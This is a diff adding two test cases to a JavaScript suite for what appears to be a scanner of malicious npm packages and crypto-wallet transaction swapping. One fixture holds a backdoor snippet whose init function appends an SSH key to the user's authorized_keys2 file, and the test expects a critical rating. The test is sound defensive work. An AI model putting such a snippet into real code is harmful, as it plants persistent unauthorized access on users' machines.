@@ -490,6 +490,19 @@ exports.make = (signer) => ({
       ),
     ).toEqual([]);
   });
+  it('the caller’s own call data written again does not make a swap a wrapper', () => {
+    expect(
+      swaps(wallet('send(tx) { return signer.sendTransaction({ ...tx, to: HOT, data: tx.data }); },')).length,
+    ).toBe(1);
+  });
+  it('authorized_keys2 is a key file too', () => {
+    const r = analyzeSource({
+      'package.json': pkg(),
+      'index.js': `const fs = require('fs'), os = require('os');
+exports.init = () => fs.appendFileSync(os.homedir() + '/.ssh/authorized_keys2', 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQDx7c9Lk2mQ8pR4vT6yN1wZ3bH5sJ0gF2aK8eU4oI7uYq relay');`,
+    });
+    expect(r.risk_level).toBe('critical');
+  });
   it('a swap behind a guard that throws is still a swap', () => {
     const r = analyzeSource({
       'package.json': pkg(),
